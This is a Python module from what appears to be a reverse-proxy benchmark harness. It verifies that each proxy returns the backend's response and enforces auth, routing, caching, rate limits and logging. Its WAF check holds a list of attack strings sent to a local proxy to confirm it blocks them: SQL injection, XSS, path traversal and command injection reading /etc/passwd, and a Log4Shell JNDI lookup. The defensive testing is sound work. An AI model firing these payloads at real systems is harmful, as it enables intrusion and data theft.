"""Equal work: what every proxy has to answer before it is measured.

`equal_work` asks each proxy before each round. Whatever the profile, status and bytes have to be those of the backend; `CHECKS` has
what a setup asks for beyond that. `prove_limit` and `check_log` see that limits limit, and that logs are complete.
"""

import http.client
import os
import ssl
import time

from .profiles import kind
from .servers import Failure, tail
from .templates import BODY


def client_tls():
    """What a client speaks TLS with; nobody is verified."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def ask(server, request, tls=False):
    """Status, headers and body of one GET over a connection of its own."""
    path, headers = request
    if tls:
        connection = http.client.HTTPSConnection("127.0.0.1", server.port, timeout=20, context=client_tls())
    else:
        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=20)
    try:
        connection.request("GET", path, headers={**headers, "Connection": "close"})
        answer = connection.getresponse()
        return answer.status, answer.headers, answer.read()
    finally:
        connection.close()


def expected(profile):
    """The bytes that the backend sends."""
    return BODY if profile.size == len(BODY) else content(profile.size)


def content(size):
    """A body that is not the same over and over."""
    line = b"".join(b"%07d\n" % number for number in range(12_800))
    return (line * (size // len(line) + 1))[:size]


def await_answer(server, profile, work):
    """Some proxies listen before they know their routes: waits for the first 200, at most 15 s."""
    end, last = time.monotonic() + 15, None
    while time.monotonic() < end:
        try:
            last = ask(server, work.requests[0], profile.tls)[0]
            if last == 200:
                return
        except (OSError, http.client.HTTPException) as error:
            last = error
        time.sleep(0.1)
    raise Failure(f"{server.name} does not answer with 200 within 15 s, but {last}\n{tail(server.log)}")


def equal_work(server, profile, work):
    """The same answer from everyone, and whatever the setup asks for."""
    try:
        status, _, body = ask(server, work.requests[0], profile.tls)
        if status != 200 or body != expected(profile):
            raise Failure(f"{server.name} answers {status} with {len(body)} bytes: {body[:200]!r}\n{tail(server.log)}")
        if check := CHECKS.get(profile.setup):
            check(server, work)
    except (OSError, http.client.HTTPException) as error:
        raise Failure(f"{server.name} does not answer: {error}\n{tail(server.log)}") from error


def refuses(server, what, request, status=401):
    """A request that must not pass."""
    if (found := ask(server, request)[0]) != status:
        raise Failure(f"{server.name} answers {found} to {what}, not {status}")


def gateway(server, work):
    """No answer without a token, or with a forged one."""
    if kind(server.name) == "bare":
        return
    path, headers = work.requests[0]
    head, claims, signature = headers["Authorization"].partition(" ")[2].split(".")
    forged = f"{head}.{claims}.{'B' if signature[0] == 'A' else 'A'}{signature[1:]}"
    refuses(server, "no token", (path, {}))
    refuses(server, "a forged token", (path, {"Authorization": f"Bearer {forged}"}))


def api_key(server, work):
    """No answer without a key, or with a wrong one; the backend sees the consumer and not the key."""
    path, headers = work.requests[0]
    refuses(server, "no key", (path, {}))
    refuses(server, "a wrong key", (path, {"X-Api-Key": headers["X-Api-Key"] + "x"}))
    body = ask(server, ("/marked/echo", headers))[2]
    if not body.endswith(b" consumer=consumer-0000 key="):
        raise Failure(f"the backend behind {server.name} sees {body!r}, not the consumer without the key")


def headers_changed(server, work):
    """The backend sees what it shall see, and so does the client."""
    path, headers = work.requests[0]
    _, answer, body = ask(server, (path + "echo", headers))
    wanted = b"uri=/marked/echo a=one b=two drop= kept=yes consumer= key="
    if body != wanted:
        raise Failure(f"the backend behind {server.name} sees {body!r}, not {wanted!r}")
    found = [answer.get(name) for name in ("x-c", "x-d", "x-internal", "x-kept")]
    if found != ["three", "four", None, "yes"]:
        raise Failure(f"{server.name} answers with x-c, x-d, x-internal, x-kept: {found}")


def routes(server, work):
    """The last route is there, and what has no route is not found."""
    last = max(path for path, _ in work.requests)
    if (status := ask(server, (last, {}))[0]) != 200:
        raise Failure(f"{server.name} answers {status} to {last}")
    refuses(server, "a path without a route", ("/r99999/00001", {}), 404)


def cached(server, work):
    """Who asks twice gets the same answer, and another one for another path."""
    answered = [ask(server, work.requests[number])[1].get("x-answered") for number in (0, 0, 1, 1)]
    if answered[0] != answered[1] or answered[2] != answered[3] or answered[0] == answered[2] or not answered[0]:
        raise Failure(f"{server.name} does not keep answers: {answered}")


ATTACKS = (
    "/?q=%27%20OR%20%271%27=%271", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/?file=../../../../etc/passwd", "/?q=%3B+cat+/etc/passwd",
    "/?u=1+UNION+SELECT+password+FROM+users", "/?x=%24%7Bjndi:ldap://a.example/x%7D",
)


def waf(server, work):
    """Attacks are refused, and nothing else."""
    _, headers = work.requests[0]
    for attack in ATTACKS:
        refuses(server, attack, (attack, headers), 403)
    refuses(server, "a scanner", ("/", {**headers, "User-Agent": "sqlmap/1.7"}), 403)
    for request in work.requests:
        if (status := ask(server, request)[0]) != 200:
            raise Failure(f"{server.name} answers {status} to {request}\n{tail(server.log)}")


CHECKS = {"waf": waf, "gateway": gateway, "api-key": api_key, "headers": headers_changed, "routes": routes, "cache": cached}


def prove_limit(server, work):
    """With a limit of 5 a second, one caller is refused at last, and another is not."""
    found = {ask(server, work.requests[0])[0] for _ in range(30)}
    other = ask(server, work.requests[-1])[0]
    if found != {200, 429} or other != (200 if len(work.requests) > 1 else 429):
        raise Failure(f"{server.name} does not limit by caller: {found}, another caller {other}\n{tail(server.log)}")


def check_log(server, path, requests):
    """The access log has a line for each request, within 5 s; then it is emptied."""
    lines, end = 0, time.monotonic() + 5
    while True:
        with open(path, "rb") as log:
            lines = sum(part.count(b"\n") for part in iter(lambda: log.read(1 << 20), b""))
        if lines >= requests or time.monotonic() > end:
            break
        time.sleep(0.2)
    if lines < requests:
        raise Failure(f"{server.name} logged {lines} of {requests} requests")
    os.truncate(path, 0)
